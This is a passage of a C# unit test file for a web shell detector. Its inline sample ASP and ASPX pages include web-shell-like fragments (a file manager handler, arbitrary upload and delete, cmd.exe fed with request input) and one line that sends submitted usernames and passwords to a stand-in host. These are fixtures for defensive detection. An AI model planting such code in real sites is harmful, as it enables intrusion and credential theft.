    [InlineData("a.aspx", Cs + "var t = File.ReadAllText(Server.MapPath(\"~/mail/order.tpl\")); new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), \"public static class T { public static string Render() { return @\\\"\" + t.Replace(\"\\\"\", \"\\\"\\\"\") + \"\\\"; } }\"); %>")]
    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Admin\")) return; HostingEnvironment.RegisterVirtualPathProvider(new Acme.SkinProvider(\".css\")); %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { title.Text = Server.HtmlEncode(Request[\"t\"]); }</script><%# Eval(\"Name\") %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Job { get { return (string)Application[\"j\"]; } set { Application[\"j\"] = \"report\"; } } void Page_Init() { Job = Request[\"s\"]; } void Page_Load() { Process.Start(@\"D:\\Jobs\\run.exe\", Job); }</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=server>\n<System.Runtime.InteropServices.DllImport(\"kernel32.dll\", EntryPoint:=\"GetTickCount64\")> _\nPrivate Shared Function Ticks() As ULong\nEnd Function\nSub Page_Load()\nTitle = Ticks() & Request(\"f\")\nEnd Sub</script>")]
    [InlineData("a.asp", "<%@ Language=VBScript %><script language=JScript runat=server>function pick(o) { return String(o.Form('w')); } function run(c) { return eval('1+' + parseInt(c, 10)); }</script><% Response.Write run(pick(Request)) %>")]
    [InlineData("a.asp", "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\") : h.open \"POST\", \"https://login.example.org/api\", False : h.send \"u=\" & Server.URLEncode(Request.Form(\"user\")) & \"&p=\" & Server.URLEncode(Request.Form(\"pass\")) : If h.status = 200 Then Session(\"u\") = Request.Form(\"user\") %>")]
    public void Used_honestly(string name, string page) => Is(WebShellVerdict.Benign, name, page);

    [Theory]
    [InlineData("a.aspx", Cs + "new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), File.ReadAllText(Server.MapPath(\"~/x.txt\"))); %>")]
    [InlineData("a.aspx", Cs + "HostingEnvironment.RegisterVirtualPathProvider(new Acme.SkinProvider(\".css\")); %>")]
    [InlineData("a.aspx", Cs + "var c = new SqlConnection(\"Server=.;User Id=sa;Password=x\"); c.Open(); grid.DataSource = new SqlCommand(sql.Text, c).ExecuteReader(); %><asp:TextBox id=sql runat=server />")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & \"Const Title=\"\"\" & Request(\"t\") & \"\"\"\" & vbCrLf & \"%\" & \">\" %>")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>public class U : IHttpHandler { public void ProcessRequest(HttpContext c) { var f = c.Request.Files[0]; f.SaveAs(c.Server.MapPath(c.Request[\"d\"]) + f.FileName); c.Response.Write(f.FileName); } }")]
    [InlineData("a.aspx", Cs + "Process.Start(\"cmd.exe\", \"/c net stop \\\"\" + Request[\"s\"] + \"\\\"\"); %>")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"R\" %>public class R : IHttpHandler { HttpContext c; string Fix(string p) { return c.Server.MapPath(\"~/\" + p); } public void ProcessRequest(HttpContext x) { c = x; switch (c.Request[\"a\"]) { case \"list\": foreach (var f in Directory.GetFiles(Fix(c.Request[\"d\"]))) c.Response.Write(f); break; case \"del\": File.Delete(Fix(c.Request[\"d\"])); break; case \"mk\": Directory.CreateDirectory(Fix(c.Request[\"d\"])); break; case \"get\": c.Response.TransmitFile(Fix(c.Request[\"d\"])); break; } } }")]
    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><% System.IO.File.Delete(Request(\"name\")) %>")]
    [InlineData("a.asp", "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\") : h.open \"GET\", \"http://stats.example.org/p.gif?d=\" & Server.URLEncode(Request.Form(\"user\") & \"|\" & Request.Form(\"pass\")), False : h.send %>")]
    [InlineData("a.aspx", Cs + "string n = Guid.NewGuid() + Path.GetExtension(Request.PhysicalPath).Replace(\"ashx\", \"aspx\"); File.WriteAllText(Path.Combine(Path.GetDirectoryName(Request.PhysicalPath), n), Request.Form[\"i\"]); %>")]
    public void Doubtful(string name, string page) => Is(WebShellVerdict.Suspicious, name, page);

    [Theory]
    [InlineData("ConfigurationManager.AppSettings[\"Widget.\" + Request[\"name\"]]", WebShellVerdict.Benign)]
    [InlineData("ConfigurationManager.AppSettings[\"Widget\"] + Request[\"name\"]", WebShellVerdict.WebShell)]
    public void A_client_that_chooses_a_setting_does_not_write_it(string name, WebShellVerdict expected) =>
        Is(expected, "a.aspx", Cs + "var a = System.Reflection.Assembly.LoadFrom(" + name + "); a.CreateInstance(" + name + "); %>");

    [Fact]
    public void The_bytes_of_a_directive_in_a_program_are_no_code()
    {
        byte[] random = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 3, 0, .. "<%@"u8, 0xF0, 0x9C, 7, 1, 2, .. "%>"u8, 0, 9];
        Assert.Equal(WebShellVerdict.Benign, WebShellJudge.Judge("tool", random).Verdict);
        byte[] page = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 3, 0, .. "<%@ Page Language=\"C#\" %><% Response.Write(1); %>"u8];
        Assert.Equal(WebShellVerdict.Suspicious, WebShellJudge.Judge("tool", page).Verdict);
    }

    private static void Is(WebShellVerdict verdict, string name, string page)
    {
        var judgement = WebShellJudge.Judge(name, Encoding.UTF8.GetBytes(page));
        Assert.True(judgement.Verdict == verdict, $"{judgement.Verdict} {judgement.Score}: {string.Join("; ", judgement.Reasons)}");
    }
}
